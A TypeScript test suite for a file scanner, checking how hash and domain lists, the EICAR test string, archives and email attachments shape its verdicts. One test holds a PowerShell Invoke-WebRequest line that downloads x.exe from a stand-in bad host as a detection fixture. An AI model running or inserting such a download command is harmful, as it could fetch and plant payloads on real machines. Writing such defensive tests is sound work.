// Files whose hashes and addresses stand on lists, from their bytes to the verdict.
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { test } from 'node:test'
import { analyzeFile, type FileReport } from '../../../src/index.ts'
import type { AskLists, ListKind, ListMatch } from '../../../src/lists/list-match.ts'
import { writeZip } from '../archives/write-zip.ts'

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const now = new Date('2026-11-23T00:00:00Z')
const hashOf = (algorithm: string, bytes: Uint8Array): string => createHash(algorithm).update(bytes).digest('hex')

/** Lists of these entries. */
function lists(entries: readonly (readonly [ListKind, string, 'good' | 'bad', number?])[]): AskLists {
  return async (keys) =>
    keys.map((key) =>
      entries
        .filter(([kind, value]) => kind === key.kind && value === key.value)
        .map(
          ([kind, value, says, score = 100]): ListMatch => ({
            ...{ list: `${says}/ours.txt`, says, kind, value, entry: 7, since: '2026-11-01', until: null },
            ...{ comment: 'ours', score, nearness: null },
          }),
        ),
    )
}

const look = (bytes: Uint8Array, fileName: string, askLists?: AskLists): Promise<FileReport> =>
  analyzeFile(bytes, { fileName, now, ...(askLists !== undefined && { askLists }) })

const note = Buffer.from('Nothing but a note about the meeting on Tuesday.\n'.repeat(3))
const eicar = Buffer.from(EICAR)

test('a harmless file on a list of bad ones is malicious, and says by which entry', async () => {
  const { verdict, root } = await look(note, 'note.txt', lists([['sha256', hashOf('sha256', note), 'bad']]))
  assert.equal(verdict.label, 'malicious')
  const finding = root.findings.find(({ id }) => id === 'known_bad_file')
  assert.match(finding?.evidence[0]?.snippet ?? '', /on the list "bad\/ours\.txt", entry 7 \(ours\), since 2026-11-01/)
  assert.equal((await look(note, 'note.txt')).verdict.label, 'clean')
})

test('a list of little weight does not convict', async () => {
  const ask = lists([['sha256', hashOf('sha256', note), 'bad', 40]])
  assert.equal((await look(note, 'note.txt', ask)).verdict.label, 'suspicious')
})

test('a child on a list is found in the archive around it', async () => {
  const zip = writeZip([{ name: 'note.txt', bytes: note }])
  const { verdict } = await look(zip, 'a.zip', lists([['md5', hashOf('md5', note), 'bad']]))
  assert.equal(verdict.label, 'malicious')
  assert.equal(verdict.reasons[0]?.path, 'a.zip/note.txt')
})

test('a file that the operator knows as good is clean, and what was found is told as set aside', async () => {
  const { verdict } = await look(eicar, 'a.com', lists([['sha256', hashOf('sha256', eicar), 'good']]))
  assert.equal(verdict.label, 'clean')
  assert.ok(verdict.suppressed.some(({ id, by }) => id === 'eicar_test_file' && by === 'known_good_file'))
  assert.match(verdict.summary, /lists this file as good/)
})

test("a good file hides no bad one in it: neither by its own hash nor by the archive's", async () => {
  const zip = writeZip([
    { name: 'note.txt', bytes: note },
    { name: 'a.com', bytes: eicar },
  ])
  const outer = lists([['sha256', hashOf('sha256', zip), 'good']])
  assert.equal((await look(zip, 'a.zip', outer)).verdict.label, 'malicious')
  const sibling = lists([['sha256', hashOf('sha256', note), 'good']])
  assert.equal((await look(zip, 'a.zip', sibling)).verdict.label, 'malicious')
})

test('among hundreds of good files the bad one is still found', async () => {
  const many = Array.from({ length: 300 }, (_, at) => ({ name: `${at}.txt`, bytes: Buffer.from(`note number ${at}`) }))
  const good = many.map(({ bytes }) => ['sha256', hashOf('sha256', bytes), 'good'] as const)
  const zip = writeZip([...many, { name: 'z.txt', bytes: note }])
  const { verdict } = await look(zip, 'a.zip', lists([...good, ['sha256', hashOf('sha256', note), 'bad']]))
  assert.equal(verdict.label, 'malicious')
})

test('who says good and bad of one file has said bad', async () => {
  const sha256 = hashOf('sha256', eicar)
  const ask = lists([
    ['sha256', sha256, 'good'],
    ['md5', hashOf('md5', eicar), 'bad'],
  ])
  assert.equal((await look(eicar, 'a.com', ask)).verdict.label, 'malicious')
})

test('an MD5 acquits nobody, for two files can be made to share one', async () => {
  const ask = lists([['md5', hashOf('md5', eicar), 'good']])
  assert.equal((await look(eicar, 'a.com', ask)).verdict.label, 'malicious')
})

test('what nobody could read is settled by whoever knows it, and by nobody else', async () => {
  const odd = Buffer.from(Array.from({ length: 4_000 }, (_, at) => (at * 7_919 + (at >> 3)) % 251))
  assert.equal((await look(odd, 'a.bin')).verdict.label, 'unknown')
  const ask = lists([['sha1', hashOf('sha1', odd), 'good']])
  assert.equal((await look(odd, 'a.bin', ask)).verdict.label, 'clean')
})

test('a known message is judged like any other', async () => {
  const mail = Buffer.from(
    `From: a@sender.example\r\nTo: b@receiver.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nhi\r\n--b\r\nContent-Disposition: attachment; filename=a.com\r\n\r\n${EICAR}\r\n--b--\r\n`,
  )
  const ask = lists([['sha256', hashOf('sha256', mail), 'good']])
  const { root } = await look(mail, 'a.eml', ask)
  assert.equal(
    root.verdict.suppressed.some(({ by }) => by === 'known_good_file'),
    false,
  )
})

test('a script that loads from a listed host is found; a note that names the host is not', async () => {
  const ask = lists([['domain', 'bad-host.org', 'bad']])
  const script = Buffer.from('Invoke-WebRequest -Uri "http://cdn.bad-host.org/x" -OutFile x.exe\n')
  const found = await look(script, 'a.ps1', ask)
  assert.ok(
    found.root.findings.some(({ id }) => id === 'leads_to_listed_address'),
    'the script',
  )
  const report = Buffer.from('We saw connections to http://cdn.bad-host.org/x in March.\n')
  assert.equal((await look(report, 'report.txt', ask)).verdict.label, 'clean')
})
